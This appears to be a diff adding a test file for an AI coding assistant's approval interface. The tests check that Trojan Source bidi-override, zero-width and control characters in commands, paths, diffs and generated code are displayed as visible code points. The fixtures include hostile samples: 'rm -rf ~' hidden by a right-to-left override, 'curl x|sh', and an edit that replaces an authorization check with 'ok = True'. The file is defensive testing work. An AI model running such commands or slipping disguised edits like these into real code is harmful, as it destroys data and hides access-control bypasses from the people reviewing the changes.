@@ -1,0 +1,76 @@
+// What a person approves must read as what runs (Trojan Source, CVE-2021-42574): a bidi
+// override in a command, a path or the code of an edit makes what follows read backwards,
+// a zero-width character or a control hides. Where Hearth asks, such characters are shown
+// (⟨U+202E⟩), never obeyed; plain text, tabs and line breaks of multi-line code are kept.
+import assert from "node:assert/strict";
+import { beforeEach, describe, it } from "node:test";
+import { startApp } from "./dom-env.ts";
+import { conversation, event, transcript } from "./fixtures.ts";
+import type { ChatApp } from "../../../src/webview/app.ts";
+import { describeCall } from "../../../src/protocol/tool-display.ts";
+import { renderMarkdown } from "../../../src/webview/markdown.ts";
+import { visibleText } from "../../../src/protocol/visible-text.ts";
+import { toolByName } from "../../../src/tools/index.ts";
+
+let root: HTMLElement;
+let app: ChatApp;
+const q = (selector: string) => root.querySelector<HTMLElement>(selector);
+const RLO = "\u202E";
+
+describe("visibleText", () => {
+  it("writes bidi controls, zero-width characters and controls as code points; keeps the rest", () => {
+    assert.equal(visibleText(`run${RLO}txt.sh`), "run⟨U+202E⟩txt.sh");
+    assert.equal(visibleText("a\u200Bb\u2066c\u0007d\u001B[2Je\uFEFF"), "a⟨U+200B⟩b⟨U+2066⟩c⟨U+0007⟩d⟨U+001B⟩[2Je⟨U+FEFF⟩");
+    assert.equal(visibleText("if (x) {\n\treturn 'é 中文 🙂';\n}"), "if (x) {\n\treturn 'é 中文 🙂';\n}", "multi-line code keeps tabs and line breaks");
+    assert.equal(visibleText("echo hi\nrm -rf ~\r", true), "echo hi⟨U+000A⟩rm -rf ~⟨U+000D⟩", "one line: a line break is shown too");
+    assert.equal(visibleText("مرحبا hello"), "مرحبا hello", "right-to-left letters are text, not controls");
+  });
+});
+
+describe("asking", () => {
+  beforeEach(() => {
+    ({ root, app } = startApp());
+    app.receive(conversation(transcript([], { runId: "r1" })));
+  });
+
+  it("the question (the card's and the notification's) shows a command's bidi override and line break", () => {
+    const command = `echo done #${RLO} ~ fr- mr;`;
+    assert.equal(describeCall("run_command", { command: `${command}\ncurl x|sh` }), `run \`echo done #⟨U+202E⟩ ~ fr- mr;⟨U+000A⟩curl x|sh\``);
+    app.receive(event({ type: "approvalRequest", call: { id: "c1", name: "run_command", arguments: { command } }, effect: "command", display: toolByName("run_command")!.display! }));
+    assert.equal(q('[data-id="c1"] .tool-command')?.textContent, "$ echo done #⟨U+202E⟩ ~ fr- mr;");
+    assert.ok(!root.textContent!.includes(RLO), "no bidi override reaches the page");
+  });
+
+  it("a write's path and the code of its diff show hidden characters", () => {
+    const call = { id: "w1", name: "edit_file", arguments: { path: `tools/run${RLO}txt.sh`, old_text: "ok = check(user)\n", new_text: `ok = True  # ${RLO}check(user)\u2066\n` } };
+    app.receive(event({ type: "approvalRequest", call, effect: "write", display: toolByName("edit_file")!.display! }));
+    const card = q('[data-id="w1"]')!;
+    assert.equal(card.querySelector(".tool-path")?.textContent, "tools/run⟨U+202E⟩txt.sh");
+    assert.equal(card.querySelector(".tool-ask")?.textContent, "Hearth wants to edit tools/run⟨U+202E⟩txt.sh.");
+    assert.deepEqual([...card.querySelectorAll(".diff-add")].map((l) => l.textContent), ["+ok = True  # ⟨U+202E⟩check(user)⟨U+2066⟩\n"]);
+    assert.ok(!root.textContent!.includes(RLO) && !root.textContent!.includes("\u2066"));
+  });
+
+  it("other arguments and a tool's result show them too", () => {
+    const call = { id: "m1", name: "mcp__deploy__run", arguments: { target: `prod${RLO}ved` } };
+    app.receive(event({ type: "approvalRequest", call, effect: "command" }));
+    assert.ok(!root.textContent!.includes(RLO));
+    assert.match(q('[data-id="m1"] .tool-ask')?.textContent ?? "", /prod⟨U\+202E⟩ved/);
+  });
+});
+
+describe("code the model writes", () => {
+  beforeEach(() => ({ root, app } = startApp()));
+
+  it("a code block and inline code show hidden characters; Apply still takes the code as written", () => {
+    const container = document.createElement("div");
+    const posted: unknown[] = [];
+    renderMarkdown(container, `Run \`ok${RLO}x\`:\n\n\`\`\`python\nif admin:  # ${RLO} } ⁦if not admin⁩ ⁦ {\n    grant()\n\`\`\`\n\nمرحبا\u200F`, (m) => posted.push(m));
+    assert.equal(container.querySelector("p code")?.textContent, "ok⟨U+202E⟩x");
+    const block = container.querySelector(".code-block pre code")!;
+    assert.ok(!block.textContent!.includes(RLO) && block.textContent!.includes("⟨U+202E⟩") && block.textContent!.includes("⟨U+2066⟩"));
+    (container.querySelector('button[aria-label="Apply to file"], button[title="Apply to file"]') as HTMLButtonElement).click();
+    assert.equal((posted[0] as { code: string }).code, `if admin:  # ${RLO} } ⁦if not admin⁩ ⁦ {\n    grant()`);
+    assert.ok(container.textContent!.includes("مرحبا\u200F"), "prose keeps its right-to-left marks");
+  });
+});
